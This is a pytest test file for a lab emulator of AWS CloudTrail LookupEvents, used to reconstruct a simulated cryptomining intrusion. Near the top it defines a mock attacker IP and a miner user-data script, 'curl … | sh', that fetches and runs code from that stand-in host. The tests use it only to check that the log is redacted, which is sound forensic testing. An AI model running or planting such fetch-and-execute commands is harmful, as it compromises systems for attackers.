"""cloudtrail: LookupEvents answers from an event history the lab records from the calls
made to it (stock moto has no LookupEvents at all)."""

from __future__ import annotations

import json
from datetime import datetime, timedelta, timezone

import pytest
from botocore.exceptions import ClientError

from conftest import random_account

ATTACKER_IP = "203.0.113.66"
ATTACKER_AGENT = "xmrig-deployer/6.21"
MINER = "#!/bin/sh\ncurl -s http://203.0.113.66/x | sh\n"


def code(excinfo) -> str:
    return excinfo.value.response["Error"]["Code"]


def claim_source_ip(client, ip: str) -> None:
    """Make every request of ``client`` claim to come from ``ip`` (lab header)."""
    client.meta.events.register(
        "before-sign.*.*", lambda request, **_: request.headers.__setitem__("x-lab-source-ip", ip))


def attacker_user(lab, account: str) -> tuple[str, str]:
    """An IAM user with an access key (and an allow-all policy, for labs that enforce IAM)."""
    iam = lab.client("iam", account=account)
    iam.create_user(UserName="ci-deployer")
    iam.put_user_policy(UserName="ci-deployer", PolicyName="all", PolicyDocument=json.dumps({
        "Version": "2012-10-17",
        "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}))
    key = iam.create_access_key(UserName="ci-deployer")["AccessKey"]
    return key["AccessKeyId"], key["SecretAccessKey"]


def lookup(ct, key: str | None = None, value: str | None = None, **kw) -> list[dict]:
    """Every event of a lookup, through the paginator (as cleanroom will page)."""
    if key is not None:
        kw["LookupAttributes"] = [{"AttributeKey": key, "AttributeValue": value}]
    events = []
    for page in ct.get_paginator("lookup_events").paginate(**kw):
        events += page["Events"]
    return events


def detail(event: dict) -> dict:
    return json.loads(event["CloudTrailEvent"])


def iso(t: datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def seed(lab, account: str, events: list[dict], region: str = "us-east-1") -> list[dict]:
    return lab.admin_ok("POST", "/_lab/cloudtrail/events", json=events, account=account,
                        region=region)["events"]


# -- the stock defect -------------------------------------------------------------------

def test_stock_has_no_lookup_events(stock_lab, fresh_account):
    ec2 = stock_lab.client("ec2", account=fresh_account)
    ec2.run_instances(ImageId="ami-12345678", MinCount=1, MaxCount=1)
    ct = stock_lab.client("cloudtrail", account=fresh_account)
    with pytest.raises(ClientError) as e:
        ct.lookup_events()
    assert e.value.response["ResponseMetadata"]["HTTPStatusCode"] == 500


# -- who launched it --------------------------------------------------------------------

def test_run_instances_with_a_user_key_is_found_by_key_and_by_instance(lab, fresh_account):
    key_id, secret = attacker_user(lab, fresh_account)
    ec2 = lab.raw_client("ec2", key_id, secret, user_agent_extra=ATTACKER_AGENT)
    claim_source_ip(ec2, ATTACKER_IP)
    before = datetime.now(timezone.utc).replace(microsecond=0)
    ids = [i["InstanceId"] for i in ec2.run_instances(
        ImageId="ami-12345678", MinCount=2, MaxCount=2, UserData=MINER,
        InstanceType="c5.xlarge")["Instances"]]
    after = datetime.now(timezone.utc)
    ct = lab.client("cloudtrail", account=fresh_account)

    by_key = lookup(ct, "AccessKeyId", key_id)
    assert [e["EventName"] for e in by_key] == ["RunInstances"]
    event = by_key[0]
    assert (event["Username"], event["AccessKeyId"], event["ReadOnly"], event["EventSource"]) == (
        "ci-deployer", key_id, "false", "ec2.amazonaws.com")
    assert before <= event["EventTime"] <= after
    instances = [r["ResourceName"] for r in event["Resources"]
                 if r["ResourceType"] == "AWS::EC2::Instance"]
    assert instances == ids
    assert event["Resources"][0]["ResourceName"] == ids[0]
    for iid in ids:
        assert [e["EventId"] for e in lookup(ct, "ResourceName", iid)] == [event["EventId"]]

    ct_event = detail(event)
    assert ct_event["userIdentity"]["type"] == "IAMUser"
    assert ct_event["userIdentity"]["userName"] == "ci-deployer"
    assert ct_event["userIdentity"]["accessKeyId"] == key_id
    assert ct_event["userIdentity"]["accountId"] == fresh_account
    assert ct_event["userIdentity"]["arn"] == f"arn:aws:iam::{fresh_account}:user/ci-deployer"
    assert ct_event["sourceIPAddress"] == ATTACKER_IP
    assert ATTACKER_AGENT in ct_event["userAgent"]
    assert ct_event["requestParameters"]["userData"] == "<sensitiveDataRemoved>"
    assert ct_event["requestParameters"]["instanceType"] == "c5.xlarge"
    assert ct_event["requestParameters"]["instancesSet"]["items"] == [
        {"imageId": "ami-12345678", "minCount": 2, "maxCount": 2}]
    assert "curl" not in event["CloudTrailEvent"]
    assert [i["instanceId"] for i in ct_event["responseElements"]["instancesSet"]["items"]] == ids
    assert (ct_event["eventName"], ct_event["eventSource"], ct_event["awsRegion"]) == (
        "RunInstances", "ec2.amazonaws.com", "us-east-1")
    assert (ct_event["eventID"], ct_event["readOnly"], ct_event["eventType"],
            ct_event["managementEvent"], ct_event["recipientAccountId"]) == (
        event["EventId"], False, "AwsApiCall", True, fresh_account)
    assert ct_event["requestID"]
    assert ct_event["eventTime"] == iso(event["EventTime"].astimezone(timezone.utc))

    # Username finds it too; the user's own IAM calls were made by someone else (LabAdmin).
    assert [e["EventId"] for e in lookup(ct, "Username", "ci-deployer")] == [event["EventId"]]


def test_identities_of_assumed_role_root_and_cross_account_assume_role(lab, fresh_account):
    # lab.client(account=X) is a LabAdmin session "lab-tests", assumed by the root of the
    # default account: CloudTrail has that AssumeRole in both accounts.
    ec2 = lab.client("ec2", account=fresh_account)
    volume = ec2.create_volume(AvailabilityZone="us-east-1a", Size=1)["VolumeId"]
    ct = lab.client("cloudtrail", account=fresh_account)
    [event] = lookup(ct, "ResourceName", volume)
    assert (event["EventName"], event["Username"]) == ("CreateVolume", "lab-tests")
    identity = detail(event)["userIdentity"]
    assert identity["type"] == "AssumedRole"
    assert identity["arn"] == f"arn:aws:sts::{fresh_account}:assumed-role/LabAdmin/lab-tests"
    assert identity["sessionContext"]["sessionIssuer"]["arn"] == (
        f"arn:aws:iam::{fresh_account}:role/LabAdmin")
    assert identity["principalId"].endswith(":lab-tests")

    [assumed] = lookup(ct, "EventName", "AssumeRole")
    assert assumed["ReadOnly"] == "true"  # CloudTrail marks AssumeRole read-only
    here = detail(assumed)
    assert here["userIdentity"] == {"type": "AWSAccount", "principalId": "123456789012",
                                    "accountId": "123456789012"}
    assert here["recipientAccountId"] == fresh_account
    role_arn = f"arn:aws:iam::{fresh_account}:role/LabAdmin"
    assert {"ResourceType": "AWS::IAM::Role", "ResourceName": role_arn} in assumed["Resources"]
    issued = here["responseElements"]["credentials"]["accessKeyId"]
    assert "secretAccessKey" not in here["responseElements"]["credentials"]
    assert identity["accessKeyId"] == issued
    home = [e for e in lookup(lab.client("cloudtrail"), "ResourceName", role_arn)
            if detail(e).get("sharedEventID") == here["sharedEventID"]]
    assert len(home) == 1
    assert home[0]["Username"] == "root"
    assert detail(home[0])["userIdentity"]["type"] == "Root"
    assert detail(home[0])["recipientAccountId"] == "123456789012"


def test_management_events_of_other_services(lab, fresh_account):
    s3 = lab.client("s3", account=fresh_account)
    kms = lab.client("kms", account=fresh_account)
    ssm = lab.client("ssm", account=fresh_account)
    bucket = f"evidence-{fresh_account}"
    s3.create_bucket(Bucket=bucket)
    s3.put_bucket_versioning(Bucket=bucket, VersioningConfiguration={"Status": "Enabled"})
    s3.put_object(Bucket=bucket, Key="a", Body=b"x")  # a data event: not in event history
    key_arn = kms.create_key(Description="case key")["KeyMetadata"]["Arn"]
    ssm.put_parameter(Name="/case/secret", Value="hunter2", Type="SecureString")
    ct = lab.client("cloudtrail", account=fresh_account)

    names = [e["EventName"] for e in lookup(ct, "ResourceName", bucket)]
    assert names == ["PutBucketVersioning", "CreateBucket"]
    assert lookup(ct, "EventName", "PutObject") == []
    [created] = lookup(ct, "EventName", "CreateKey")
    assert created["EventSource"] == "kms.amazonaws.com"
    assert {"ResourceType": "AWS::KMS::Key", "ResourceName": key_arn} in created["Resources"]
    [put] = lookup(ct, "EventName", "PutParameter")
    assert "hunter2" not in put["CloudTrailEvent"]
    assert detail(put)["requestParameters"]["name"] == "/case/secret"


# -- isolation --------------------------------------------------------------------------

def test_events_stay_in_their_region(lab, fresh_account):
    west = lab.client("ec2", account=fresh_account, region="eu-west-1")
    iid = west.run_instances(ImageId="ami-12345678", MinCount=1,
                             MaxCount=1)["Instances"][0]["InstanceId"]
    ct_west = lab.client("cloudtrail", account=fresh_account, region="eu-west-1")
    ct_east = lab.client("cloudtrail", account=fresh_account, region="us-east-1")
    [event] = lookup(ct_west, "ResourceName", iid)
    assert detail(event)["awsRegion"] == "eu-west-1"
    assert lookup(ct_east, "ResourceName", iid) == []
    assert lookup(ct_east, "EventName", "RunInstances") == []


def test_events_stay_in_their_account(lab, fresh_account):
    other = random_account()
    ec2 = lab.client("ec2", account=fresh_account)
    iid = ec2.run_instances(ImageId="ami-12345678", MinCount=1,
                            MaxCount=1)["Instances"][0]["InstanceId"]
    assert len(lookup(lab.client("cloudtrail", account=fresh_account), "ResourceName", iid)) == 1
    ct_other = lab.client("cloudtrail", account=other)
    assert lookup(ct_other, "ResourceName", iid) == []
    assert lookup(ct_other, "EventName", "RunInstances") == []


# -- paging, time, read-only ------------------------------------------------------------

def test_paging_over_130_events_newest_first(lab, fresh_account):
    now = datetime.now(timezone.utc).replace(microsecond=0)
    # Two events per minute, so pages also break between events of the same second.
    planted = seed(lab, fresh_account, [
        {"EventName": "CreateTags", "EventTime": iso(now - timedelta(minutes=i // 2)),
         "Username": "ci-deployer"} for i in range(130)])
    ct = lab.client("cloudtrail", account=fresh_account)
    first = ct.lookup_events(LookupAttributes=[{"AttributeKey": "EventName",
                                                "AttributeValue": "CreateTags"}])
    assert len(first["Events"]) == 50 and first["NextToken"]  # default MaxResults is 50
    pages, token = [], None
    while True:
        kw = {"NextToken": token} if token else {}
        page = ct.lookup_events(LookupAttributes=[{"AttributeKey": "EventName",
                                                   "AttributeValue": "CreateTags"}],
                                MaxResults=50, **kw)
        pages.append(page["Events"])
        token = page.get("NextToken")
        if not token:
            break
    assert [len(p) for p in pages] == [50, 50, 30]
    events = [e for p in pages for e in p]
    assert sorted(e["EventId"] for e in events) == sorted(e["EventId"] for e in planted)
    times = [e["EventTime"] for e in events]
    assert times == sorted(times, reverse=True)
    # Same second: the one seeded later is newer.
    order = {e["EventId"]: i for i, e in enumerate(planted)}
    for a, b in zip(events, events[1:]):
        if a["EventTime"] == b["EventTime"]:
            assert order[a["EventId"]] > order[b["EventId"]]
    assert len(lookup(ct, "EventName", "CreateTags", PaginationConfig={"PageSize": 7})) == 130


def test_time_window_is_inclusive_and_history_is_90_days(lab, fresh_account):
    now = datetime.now(timezone.utc).replace(microsecond=0)
    days = {d: now - timedelta(days=d) for d in (0, 1, 2, 3, 91)}
    planted = {d: e["EventId"] for d, e in zip(days, seed(lab, fresh_account, [
        {"EventName": "StopInstances", "EventTime": iso(t)} for t in days.values()]))}
    ct = lab.client("cloudtrail", account=fresh_account)
    window = lookup(ct, StartTime=days[2], EndTime=days[1])
    assert [e["EventId"] for e in window] == [planted[1], planted[2]]
    everything = [e["EventId"] for e in lookup(ct, "EventName", "StopInstances")]
    assert everything == [planted[0], planted[1], planted[2], planted[3]]  # not 91 days ago
    listed = lab.admin_ok("GET", "/_lab/cloudtrail/events", account=fresh_account)["events"]
    assert planted[91] in [e["EventId"] for e in listed]


def test_read_only_lookups_and_recording(lab, fresh_account):
    ec2 = lab.client("ec2", account=fresh_account)
    ct = lab.client("cloudtrail", account=fresh_account)
    ec2.create_volume(AvailabilityZone="us-east-1a", Size=1)
    ec2.describe_volumes()
    assert lookup(ct, "EventName", "DescribeVolumes") == []  # not recorded by default
    writes = lookup(ct, "ReadOnly", "false")
    assert writes and all(e["ReadOnly"] == "false" for e in writes)
    assert "CreateVolume" in [e["EventName"] for e in writes]
    reads = lookup(ct, "ReadOnly", "true")
    assert [e["EventName"] for e in reads] == ["AssumeRole"]  # credentials are always recorded
    lab.config(cloudtrail_record_read_only=True)
    try:
        ec2.describe_volumes()
    finally:
        lab.config(cloudtrail_record_read_only=False)
    [described] = lookup(ct, "EventName", "DescribeVolumes")
    assert described["ReadOnly"] == "true"
    assert detail(described)["readOnly"] is True
    assert described["EventId"] in [e["EventId"] for e in lookup(ct, "ReadOnly", "true")]
    assert described["EventId"] not in [e["EventId"] for e in lookup(ct, "ReadOnly", "false")]


# -- errors -----------------------------------------------------------------------------

def test_lookup_errors_as_aws(lab, fresh_account):
    ct = lab.client("cloudtrail", account=fresh_account, parameter_validation=False)
    now = datetime.now(timezone.utc)
    cases = [
        (dict(LookupAttributes=[{"AttributeKey": "EventName", "AttributeValue": "RunInstances"},
                                {"AttributeKey": "Username", "AttributeValue": "root"}]),
         "InvalidLookupAttributesException"),
        (dict(LookupAttributes=[{"AttributeKey": "SourceIPAddress", "AttributeValue": "x"}]),
         "InvalidLookupAttributesException"),
        (dict(LookupAttributes=[{"AttributeKey": "ReadOnly", "AttributeValue": "yes"}]),
         "InvalidLookupAttributesException"),
        (dict(LookupAttributes=[{"AttributeKey": "Username", "AttributeValue": ""}]),
         "InvalidLookupAttributesException"),
        (dict(LookupAttributes=[{"AttributeKey": "Username", "AttributeValue": "_" * 1001}]),
         "InvalidLookupAttributesException"),
        (dict(MaxResults=0), "InvalidMaxResultsException"),
        (dict(MaxResults=51), "InvalidMaxResultsException"),
        (dict(StartTime=now, EndTime=now - timedelta(seconds=1)), "InvalidTimeRangeException"),
        (dict(NextToken="not-a-token"), "InvalidNextTokenException"),
        (dict(EventCategory="data"), "InvalidEventCategoryException"),
    ]
    for kwargs, expected in cases:
        with pytest.raises(ClientError) as e:
            ct.lookup_events(**kwargs)
        assert code(e) == expected, kwargs
        assert e.value.response["ResponseMetadata"]["HTTPStatusCode"] == 400
    # A value of exactly 2000 (counting '_' twice) is allowed; equal times are a valid window.
    ct.lookup_events(LookupAttributes=[{"AttributeKey": "Username", "AttributeValue": "_" * 1000}],
                     StartTime=now, EndTime=now)


def test_next_token_only_with_the_same_parameters(lab, fresh_account):
    seed(lab, fresh_account, [{"EventName": "CreateTags"} for _ in range(3)])
    ct = lab.client("cloudtrail", account=fresh_account)
    attrs = [{"AttributeKey": "EventName", "AttributeValue": "CreateTags"}]
    token = ct.lookup_events(LookupAttributes=attrs, MaxResults=1)["NextToken"]
    assert len(ct.lookup_events(LookupAttributes=attrs, MaxResults=2, NextToken=token)["Events"]) == 2
    with pytest.raises(ClientError) as e:
        ct.lookup_events(MaxResults=1, NextToken=token)
    assert code(e) == "InvalidNextTokenException"
    with pytest.raises(ClientError) as e:  # nor in another account
        lab.client("cloudtrail", account=random_account()).lookup_events(
            LookupAttributes=attrs, NextToken=token)
    assert code(e) == "InvalidNextTokenException"


# -- seeding ----------------------------------------------------------------------------

def test_seeded_history_of_the_attack(lab, fresh_account):
    three_days_ago = datetime.now(timezone.utc).replace(microsecond=0) - timedelta(days=3)
    [planted] = seed(lab, fresh_account, [{
        "EventName": "RunInstances", "EventTime": iso(three_days_ago),
        "AccessKeyId": "AKIAEXAMPLEATTACKER1", "Username": "ci-deployer",
        "SourceIPAddress": ATTACKER_IP, "UserAgent": ATTACKER_AGENT,
        "RequestParameters": {"instancesSet": {"items": [{"imageId": "ami-12345678"}]},
                              "userData": "IyEvYmluL3NoCg=="},
        "ResponseElements": {"instancesSet": {"items": [{"instanceId": "i-0123456789abcdef0"}]}},
    }], region="eu-west-1")
    assert (planted["EventSource"], planted["ReadOnly"]) == ("ec2.amazonaws.com", "false")
    assert planted["Resources"][0] == {"ResourceType": "AWS::EC2::Instance",
                                       "ResourceName": "i-0123456789abcdef0"}
    ct = lab.client("cloudtrail", account=fresh_account, region="eu-west-1")
    [found] = lookup(ct, "AccessKeyId", "AKIAEXAMPLEATTACKER1")
    assert found["EventId"] == planted["EventId"]
    assert found["EventTime"] == three_days_ago
    assert found["Username"] == "ci-deployer"
    ct_event = detail(found)
    assert ct_event["userIdentity"]["type"] == "IAMUser"
    assert ct_event["userIdentity"]["accessKeyId"] == "AKIAEXAMPLEATTACKER1"
    assert ct_event["sourceIPAddress"] == ATTACKER_IP
    assert ct_event["userAgent"] == ATTACKER_AGENT
    assert ct_event["requestParameters"]["userData"] == "<sensitiveDataRemoved>"
    assert ct_event["awsRegion"] == "eu-west-1"
    assert [e["EventId"] for e in lookup(ct, "ResourceName", "i-0123456789abcdef0")] == [
        planted["EventId"]]
    listed = lab.admin_ok("GET", "/_lab/cloudtrail/events", account=fresh_account,
                          region="eu-west-1")["events"]
    assert [(e["EventId"], e["Seeded"]) for e in listed] == [(planted["EventId"], True)]


def test_seeding_refuses_what_it_cannot_fill_in(lab, fresh_account):
    bad = [
        ([{"Username": "x"}], 400),                                  # no EventName
        ([{"EventName": "RunInstances", "Colour": "red"}], 400),     # unknown field
        ([{"EventName": "NoSuchCall"}], 400),                        # unknown, no EventSource
        ([{"EventName": "RunInstances", "EventTime": "yesterday"}], 400),
        ({"EventName": "RunInstances"}, 400),                        # not a list
    ]
    for body, status in bad:
        r = lab.admin("POST", "/_lab/cloudtrail/events", json=body, account=fresh_account)
        assert r.status_code == status, (body, r.text)
    [e] = seed(lab, fresh_account, [{"EventName": "NoSuchCall", "EventSource": "x.amazonaws.com",
                                     "EventId": "11111111-2222-3333-4444-555555555555"}])
    r = lab.admin("POST", "/_lab/cloudtrail/events", account=fresh_account,
                  json=[{"EventName": "RunInstances", "EventId": e["EventId"]}])
    assert r.status_code == 409
    assert lab.admin_ok("DELETE", "/_lab/cloudtrail/events", account=fresh_account)["deleted"] == 1
    assert lab.admin_ok("GET", "/_lab/cloudtrail/events", account=fresh_account)["events"] == []


def test_reset_clears_the_history(lab):
    account = random_account()
    seed(lab, account, [{"EventName": "RunInstances"}])
    lab.reset()
    assert lab.admin_ok("GET", "/_lab/cloudtrail/events", account=account)["events"] == []
